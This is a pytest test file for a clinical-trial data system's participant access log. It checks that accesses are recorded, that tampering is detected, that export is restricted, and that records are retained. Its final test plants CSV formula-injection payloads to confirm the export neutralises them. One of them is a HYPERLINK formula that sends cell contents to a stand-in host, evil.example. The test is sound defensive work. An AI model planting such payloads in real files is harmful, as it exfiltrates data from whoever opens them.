"""The access log (finding 11 of issue 14, PHIPA/PHIA): every view of a participant's data by page or API is
recorded (who, when, which participant, which route) as one row, tamper-evident with the audit key, searchable and
exportable as CSV by the data manager only; kept 15 years by default. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from mescams.core.spreadsheet import restore
from mescams.edc.security import access_log
from mescams.edc.security.access_log import AccessLogBroken
from mescams.edc.security.config import ACCESS_LOG_RETENTION_YEARS
from mescams.edc.security.models import AccessRecord
from mescams.edc.settings import build_settings
from tests.factories.edc import randomised


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_page_and_api_views_of_a_participant_are_recorded(users, allocation) -> None:
    pid = randomised(users["coord"])
    AccessRecord.objects.all()._raw_delete(AccessRecord.objects.db)  # the set-up's own requests are not the test
    coord, rater = _client(users["coord"]), _client(users["rater"])
    assert coord.get(f"/site/p/{pid}/").status_code == 200
    assert coord.get(f"/api/participants/{pid}").status_code == 200
    assert rater.get(f"/api/participants/{pid}/forms/edss").status_code == 200
    assert coord.get("/api/participants").status_code == 200  # a list: recorded without a participant
    assert coord.get("/api/participants/OTT-999").status_code == 404  # nothing shown: nothing recorded
    rows = list(AccessRecord.objects.order_by("pk").values_list("username", "role", "participant_id", "method",
                                                                "route"))
    assert rows == [("coord", "site_coordinator", pid, "GET", f"/site/p/{pid}/"),
                    ("coord", "site_coordinator", pid, "GET", f"/api/participants/{pid}"),
                    ("rater", "edss_rater", pid, "GET", f"/api/participants/{pid}/forms/edss"),
                    ("coord", "site_coordinator", "", "GET", "/api/participants")]
    assert all(r.at.tzinfo is not None for r in AccessRecord.objects.all())


def test_a_read_writes_one_small_row(users, allocation) -> None:
    pid = randomised(users["coord"])
    c = _client(users["coord"])
    c.get(f"/api/participants/{pid}")  # warm up (session, caches)
    with CaptureQueriesContext(connection) as queries:
        c.get(f"/api/participants/{pid}")
    writes = [q["sql"] for q in queries if q["sql"].lstrip().upper().startswith(("INSERT", "UPDATE", "DELETE"))]
    assert len(writes) == 1 and "security_accessrecord" in writes[0], writes


def test_the_data_manager_searches_and_exports_by_participant_and_dates(users, allocation) -> None:
    one, two = randomised(users["coord"]), randomised(users["coord"])
    coord = _client(users["coord"])
    for pid in (one, two, one):
        coord.get(f"/api/participants/{pid}")
    dm = _client(users["dm"])
    today = dt.datetime.now(dt.UTC).date().isoformat()
    found = dm.get("/api/access-log", {"participant_id": one, "start": today, "end": today}).json()
    assert [(r["username"], r["participant_id"]) for r in found] == [("coord", one)] * 2
    assert dm.get("/api/access-log", {"participant_id": one, "end": "2015-01-01"}).json() == []
    exported = dm.get("/api/access-log/export", {"participant_id": two})
    table = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert exported["Content-Type"].startswith("text/csv") and [r["participant_id"] for r in table] == [two]
    assert table[0]["route"] == f"/api/participants/{two}" and table[0]["at"].endswith("+00:00")
    page = dm.get("/dm/access-log/", {"participant_id": one})
    assert page.status_code == 200 and page.content.decode().count(f"/api/participants/{one}") == 2
    assert dm.get("/dm/access-log/", {"participant_id": one, "format": "csv"})["Content-Type"].startswith("text/csv")
    assert dm.get("/dm/access-log/", {"start": "yesterday"}).status_code == 422
    for other in ("coord", "admin", "statistician", "dsmb"):
        c = _client(users[other])
        assert c.get("/api/access-log").status_code == 403, other
        assert c.get("/dm/access-log/").status_code == 403, other


def test_a_changed_or_removed_record_is_detected(users, allocation) -> None:
    pid = randomised(users["coord"])
    coord = _client(users["coord"])
    for _ in range(3):
        coord.get(f"/api/participants/{pid}")
    assert access_log.verify() >= 3
    last = AccessRecord.objects.order_by("-pk").first()
    AccessRecord.objects.filter(pk=last.pk).update(username="someone-else")
    with pytest.raises(AccessLogBroken, match="changed"):
        access_log.verify()
    AccessRecord.objects.filter(pk=last.pk).update(username=last.username)
    access_log.verify()
    middle = AccessRecord.objects.order_by("pk")[1]
    AccessRecord.objects.filter(pk=middle.pk)._raw_delete(AccessRecord.objects.db)
    with pytest.raises(AccessLogBroken, match="removed"):
        access_log.verify()


def test_records_are_kept_fifteen_years_by_default_then_purged_in_sealed_batches(users, allocation) -> None:
    assert ACCESS_LOG_RETENTION_YEARS == 15
    assert build_settings({"MESCAMS_DEMO": "1"})["MESCAMS_ACCESS_LOG_RETENTION_YEARS"] == 15
    old = dt.datetime(2001, 5, 1, tzinfo=dt.UTC)
    access_log.record(user=users["coord"], participant_id="OTT-001", method="GET", route="/old", at=old)
    access_log.seal()
    from mescams.edc.security.models import AccessLogSeal

    AccessLogSeal.objects.update(sealed_at=old)
    access_log.record(user=users["coord"], participant_id="OTT-001", method="GET", route="/new")
    assert access_log.purge_expired(now=dt.datetime(2017, 5, 2, tzinfo=dt.UTC)) == 1
    assert list(AccessRecord.objects.values_list("route", flat=True)) == ["/new"]
    access_log.verify()  # what is left still verifies


@pytest.mark.parametrize("edc", ["sqlite"], indirect=True)
def test_the_exported_access_log_is_formula_safe(edc) -> None:
    """The export is opened in a spreadsheet: a cell that a spreadsheet would run as a formula is neutralised."""
    planted = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
    rows = [AccessRecord(at=dt.datetime(2016, 2, 1, tzinfo=dt.UTC), username=text, role="investigator",
                         participant_id="OTT-001", method="GET", route=text) for text in planted]
    read = list(csv.DictReader(io.StringIO(access_log.as_csv(rows))))
    assert [r["username"] for r in read] == [f"'{text}" for text in planted]
    assert [restore(r["route"]) for r in read] == planted  # nothing lost: the guard comes off exactly
